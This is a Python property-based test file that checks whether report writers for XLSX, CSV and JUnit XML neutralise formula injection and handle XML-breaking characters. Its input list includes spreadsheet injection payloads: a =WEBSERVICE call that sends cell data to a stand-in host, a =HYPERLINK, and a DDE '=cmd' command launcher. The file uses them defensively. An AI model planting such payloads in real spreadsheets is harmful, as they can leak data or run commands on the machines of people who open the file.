"""Spreadsheets and XML made from foreign text: no formula cell, no crash, no collision, well-formed XML.

The writers get bundles whose every string field is drawn by Hypothesis from text that starts with a
formula character, holds XML-forbidden control characters, `]]>`, `/` or `:`, or is not a string at all.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any, cast
from xml.etree import ElementTree as ET

from hypothesis import given, settings
from hypothesis import strategies as st

from reports.cells import FORMULA_STARTS, csv_cell, sheet_title, xml_text
from reports.fleet import Row, to_csv
from reports.junit import render_junit
from reports.load import Bundle
from reports.xlsx import render_xlsx

NASTY = ["=HYPERLINK(\"http://x\",\"y\")", "=WEBSERVICE(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
         "@SUM(A1)", "\tx", "\rx", "＝1+1", "a]]>b", "\x0c", "\x1b[31m", "h/1:2", "[x]*?", "'q'", "\x00", "", " "]
TEXT = st.one_of(st.sampled_from(NASTY), st.text(max_size=40),
                 st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=10)))
VALUE = st.one_of(TEXT, st.none(), st.integers(), st.lists(TEXT, max_size=2), st.dictionaries(TEXT, TEXT, max_size=2))
RULE = {"id": "R-1", "title": "t", "scope": "host", "standard": {"ref": "8.1.4.1 a)", "text_zh": "应…"},
        "clause": {"document": {"id": "GD2020"}, "ref": "一(二)1"}}


def _bundle(findings: list[Any], observations: dict[str, Any] | None = None) -> Bundle:
    return Bundle(source="b", verification=cast(Any, None), manifest={}, result={"finished_at": "2026-01-01T00:00:00"},
                  catalogue={"rules": [RULE]}, facts={}, findings=findings, observations=observations or {},
                  waivers=[], files={})


FINDING = st.fixed_dictionaries({
    "rule_id": st.one_of(st.just("R-1"), VALUE), "verdict": st.sampled_from(["pass", "fail", "error", "inconclusive"]),
    "reason": VALUE, "reason_zh": VALUE, "hosts": st.one_of(st.lists(TEXT, min_size=1, max_size=4), VALUE),
    "details": st.one_of(st.dictionaries(st.sampled_from(["conclusion", "actual", "remediation", "standard"]), VALUE),
                         VALUE),
    "evidence": st.one_of(st.lists(st.fixed_dictionaries({"basis": st.sampled_from(["attested", "observed"]),
                                                          "statement": VALUE, "host": VALUE}), max_size=2), VALUE),
    "observations": st.one_of(st.lists(TEXT, max_size=2), VALUE),
    "waiver": st.one_of(st.none(), st.just({}), st.dictionaries(st.sampled_from(["ticket", "expires",
                                                                                  "justification"]), VALUE)),
})


@settings(max_examples=60, deadline=None)
@given(findings=st.lists(FINDING, min_size=1, max_size=4))
def test_the_workbook_never_holds_a_formula_and_every_host_has_its_own_sheet(findings: list[dict[str, Any]]) -> None:
    from openpyxl import load_workbook

    data = render_xlsx(_bundle(findings))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, cell.value
    hosts = {h if isinstance(h, str) else None for f in findings if f["rule_id"] == "R-1"
             and isinstance(f["hosts"], list) for h in f["hosts"]}
    assert len(book.sheetnames) == max(len(hosts), 1) or not hosts


def test_host_names_equal_in_their_first_31_characters_get_two_sheets_and_slashes_are_fine() -> None:
    from openpyxl import load_workbook

    long = "hospital-application-server-0001"
    findings = [{"rule_id": "R-1", "verdict": "fail", "reason": "r", "hosts": [long + "a", long + "b", "a/b:c",
                                                                                "=1+1"]}]
    book = load_workbook(io.BytesIO(render_xlsx(_bundle(findings))))
    assert len(book.sheetnames) == 4 and len({n.casefold() for n in book.sheetnames}) == 4
    assert book.worksheets[1]["A1"].comment is not None and long + "b" in book.worksheets[1]["A1"].comment.text
    taken: set[str] = set()
    assert [sheet_title(n, taken) for n in ("x" * 40, "x" * 40 + "y", "a/b", "a_b")] == [
        "x" * 31, "x" * 29 + "~2", "a_b", "a_b~2"]


@settings(max_examples=60, deadline=None)
@given(names=st.lists(VALUE, min_size=1, max_size=5), rules=st.dictionaries(TEXT, TEXT, max_size=3))
def test_fleet_csv_cells_are_never_formulas(names: list[Any], rules: dict[str, str]) -> None:
    rows = [Row(source=cast(str, n), hospital=cast(str, n), verified=True, status=cast(str, n), signer=("=x",),
                rules=rules, checked_at=cast(str, n)) for n in names]
    for line in csv.reader(io.StringIO(to_csv(rows))):
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), line


@settings(max_examples=80, deadline=None)
@given(findings=st.lists(FINDING, min_size=1, max_size=4))
def test_junit_is_well_formed_whatever_the_reasons_hold(findings: list[dict[str, Any]]) -> None:
    observations = {"o1": {"host": "h", "started_at": "2026-01-01T00:00:00", "ended_at": "2026-01-01T00:00:01Z"}}
    document = render_junit(_bundle(findings, observations))
    root = ET.fromstring(document.encode("utf-8"))  # raises on ill-formed XML
    assert root.tag == "testsuites"


def test_junit_keeps_cdata_ends_form_feeds_and_escapes_as_text_and_a_bare_waiver_does_not_crash() -> None:
    reason = "ends ]]> here\x0cform feed \x1b[31m ESC"
    findings = [{"rule_id": "R-1", "verdict": "fail", "reason": reason, "hosts": ["h"]},
                {"rule_id": "R-2", "verdict": "fail", "reason": "r", "hosts": ["h"], "waiver": {"justification": "j"}}]
    document = render_junit(_bundle(findings))
    root = ET.fromstring(document.encode("utf-8"))
    failure = root.find(".//failure")
    assert failure is not None and failure.get("message") == xml_text(reason) and "]]>" in failure.get("message", "")
    skipped = root.find(".//skipped")
    assert skipped is not None and "(no ticket)" in skipped.get("message", "")


def test_the_csv_rule_is_owasps() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", 5, None)] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "5", ""]
